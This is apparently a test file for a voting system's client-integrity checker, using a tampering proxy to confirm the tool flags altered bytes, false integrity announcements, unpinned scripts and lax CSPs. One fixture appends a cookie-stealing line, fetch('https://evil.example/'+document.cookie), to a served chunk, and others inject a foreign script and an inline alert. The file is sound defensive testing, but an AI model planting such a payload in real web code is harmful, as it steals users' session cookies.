// `urne check-client` (observer/client-check.ts): a vote host serving the release passes
// K1-K3 against the manifest of the build; one that serves other bytes, announces other
// values, or serves a page loading code that is not pinned fails, each with its check and
// the file or page named. The dishonest vote host is a proxy in front of a real one that
// rewrites what it serves.
import { readFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { expect } from "chai";
import { CLIENT_MANIFEST, type ClientManifest } from "../../protocol/client-manifest.node.js";
import { checkClient } from "../../observer/client-check.js";
import { CLIENT_DIST_DIR } from "../../server/web/client-assets.js";
import { call, inSeconds, startTestStack, type TestStack } from "../server/api/stack-fixture.js";
import { runUrne } from "../helpers/urne-cli.js";

type Rewrite = (path: string, body: Buffer) => { body: Buffer; headers?: http.OutgoingHttpHeaders } | undefined;

/** A vote host that serves what `rewrite` makes of the real one's answers (GET only). */
async function dishonestHost(target: string, rewrite: Rewrite): Promise<{ url: string; close(): Promise<void> }> {
  const server = http.createServer(async (req, res) => {
    const answer = await fetch(new URL(req.url ?? "/", target), { redirect: "manual" });
    const body = Buffer.from(await answer.arrayBuffer());
    const headers: http.OutgoingHttpHeaders = {};
    answer.headers.forEach((value, key) => {
      if (key !== "content-length" && key !== "content-encoding" && key !== "transfer-encoding") headers[key] = value;
    });
    const changed = rewrite(new URL(req.url ?? "/", target).pathname, body);
    res.writeHead(answer.status, { ...headers, ...changed?.headers }).end(changed?.body ?? body);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

describe("urne check-client: does a vote host serve the release?", function () {
  this.timeout(120_000);
  let stack: TestStack;
  let manifest: ClientManifest;
  let pages: string[];
  const manifestFile = path.join(CLIENT_DIST_DIR, CLIENT_MANIFEST);

  before(async () => {
    stack = await startTestStack();
    manifest = JSON.parse(readFileSync(manifestFile, "utf8")) as ClientManifest;
    const { apiKey } = await stack.apps.create({ name: "Partenaire", origins: ["https://partner.example"] });
    const { ballot } = (await call(stack, "POST", "/v1/ballots", { key: apiKey, body: { sealing: "public", question: "Un banc ?", closesAt: inSeconds(3600) } })).body;
    pages = ["/verify", "/observer", "/proof/print", `/results/${ballot.id}`, `/widget/${ballot.id}?host=https://partner.example`];
  });
  after(async () => stack?.destroy());

  async function check(rewrite: Rewrite) {
    const host = await dishonestHost(stack.apiUrl, rewrite);
    try {
      return (await checkClient({ host: host.url, manifest, pages })).findings;
    } finally {
      await host.close();
    }
  }

  it("passes a vote host that serves the release: every file, every page (widget and results included)", async () => {
    const report = await checkClient({ host: stack.apiUrl, manifest, pages });
    expect(report.findings).to.deep.equal([]);
    expect(report.files).to.equal(Object.keys(manifest.files).length);
    expect(report.pages).to.equal(5);
  });

  it("K2: names a chunk whose served bytes differ, though its announced value is the release's", async () => {
    const chunk = Object.keys(manifest.files).find((p) => p.includes("/chunk-"))!;
    const findings = await check((p, body) => (p === chunk ? { body: Buffer.concat([body, Buffer.from("\n;fetch('https://evil.example/'+document.cookie)")]) } : undefined));
    expect(findings).to.have.length(1);
    expect(findings[0]).to.include({ check: "K2", subject: chunk });
    expect(findings[0].problem).to.include(manifest.files[chunk].integrity);
  });

  it("K1: names a file announced with another value, and a file announced that is not in the release", async () => {
    const findings = await check((p, body) => {
      if (p !== "/.well-known/urne.json") return undefined;
      const doc = JSON.parse(body.toString("utf8"));
      doc.client.integrity["/assets/widget.js"] = "sha384-" + "A".repeat(64);
      doc.client.integrity["/assets/extra.js"] = "sha384-" + "B".repeat(64);
      return { body: Buffer.from(JSON.stringify(doc)) };
    });
    expect(findings.map((f) => [f.check, f.subject])).to.deep.equal([["K1", "/assets/widget.js"], ["K1", "/assets/extra.js"]]);
  });

  it("K1: names a vote host announcing another version", async () => {
    const findings = await check((p, body) => {
      if (p !== "/.well-known/urne.json") return undefined;
      const doc = JSON.parse(body.toString("utf8"));
      doc.client.version = "9.9.9";
      return { body: Buffer.from(JSON.stringify(doc)) };
    });
    expect(findings).to.have.length(1);
    expect(findings[0].problem).to.equal(`announces version "9.9.9", the release is ${manifest.version}`);
  });

  const onPage = (page: string, edit: (html: string) => string): Rewrite =>
    (p, body) => (p === page ? { body: Buffer.from(edit(body.toString("utf8"))) } : undefined);

  it("K3: names a page that loads a script from elsewhere, or the release's script without its integrity value", async () => {
    const extra = await check(onPage("/verify", (html) => html.replace("</head>", `<script src="https://cdn.example/x.js"></script></head>`)));
    expect(extra.map((f) => [f.check, f.subject, f.problem])).to.deep.equal([["K3", "/verify", "loads https://cdn.example/x.js, which is not a file of the release"]]);
    const unpinned = await check(onPage("/verify", (html) => html.replace(/(<script type="module" src="\/assets\/verify\.js") integrity="[^"]*"/, "$1")));
    expect(unpinned.map((f) => f.problem)).to.deep.equal(["loads /assets/verify.js without an integrity value"]);
  });

  it("K3: names a page whose import map leaves a module unpinned, or redirects one", async () => {
    const chunk = Object.keys(manifest.files).find((p) => p.includes("/chunk-"))!;
    const findings = await check(onPage("/observer", (html) => html.replace(/<script type="importmap">([^<]*)<\/script>/, (_m, json: string) => {
      const map = JSON.parse(json);
      delete map.integrity[chunk];
      map.imports = { [chunk]: "https://cdn.example/chunk.js" };
      return `<script type="importmap">${JSON.stringify(map)}</script>`;
    })));
    const problems = findings.map((f) => f.problem);
    expect(problems).to.include(`its import map pins ${chunk} to nothing, the release has ${manifest.files[chunk].integrity}`);
    expect(problems).to.include("its import map also has imports, which may redirect modules");
    // The changed import map no longer has the hash the CSP allows: the browser would refuse it, and the check says the CSP allows another script.
    expect(problems.some((p) => p.startsWith("its Content-Security-Policy allows scripts from 'sha256-"))).to.equal(true);
  });

  it("K3: names a page with an inline script, and a CSP that allows inline scripts", async () => {
    const findings = await check((p, body) => (p === "/proof/print"
      ? {
        body: Buffer.from(body.toString("utf8").replace("</body>", "<script>alert(1)</script></body>")),
        headers: { "content-security-policy": "default-src 'none'; script-src 'self' 'unsafe-inline'" },
      }
      : undefined));
    const problems = findings.map((f) => f.problem);
    expect(problems).to.include('has an inline script (type "text/javascript")');
    expect(problems).to.include("its Content-Security-Policy allows scripts from 'unsafe-inline'");
  });

  it("is the `urne check-client` command: exit 0 on the release, 1 naming each difference, 2 on bad usage", async () => {
    const ok = await runUrne(["check-client", "--host", stack.apiUrl, "--manifest", manifestFile, "--page", "/verify"]);
    expect(ok.code, ok.stderr).to.equal(0);
    expect(ok.stdout).to.include(`serves release ${manifest.version}`);

    const chunk = Object.keys(manifest.files).find((p) => p.includes("/chunk-"))!;
    const host = await dishonestHost(stack.apiUrl, (p, body) => (p === chunk ? { body: Buffer.concat([body, Buffer.from(";")]) } : undefined));
    try {
      const bad = await runUrne(["check-client", "--host", host.url, "--manifest", manifestFile, "--page", "/verify"]);
      expect(bad.code).to.equal(1);
      expect(bad.stdout).to.include(`K2 ${chunk}: served bytes hash to`);
      expect(bad.stdout).to.include("does not serve release");
    } finally {
      await host.close();
    }

    const usage = await runUrne(["check-client", "--host", stack.apiUrl, "--manifest", "/nonexistent/manifest.json"]);
    expect(usage.code).to.equal(2);
    expect(usage.stderr).to.include("--manifest: cannot read /nonexistent/manifest.json");
    const noHost = await runUrne(["check-client", "--host", "ftp://x"]);
    expect(noHost.code).to.equal(2);
    expect(noHost.stderr).to.include("--host: ftp: is not http or https");
  });
});
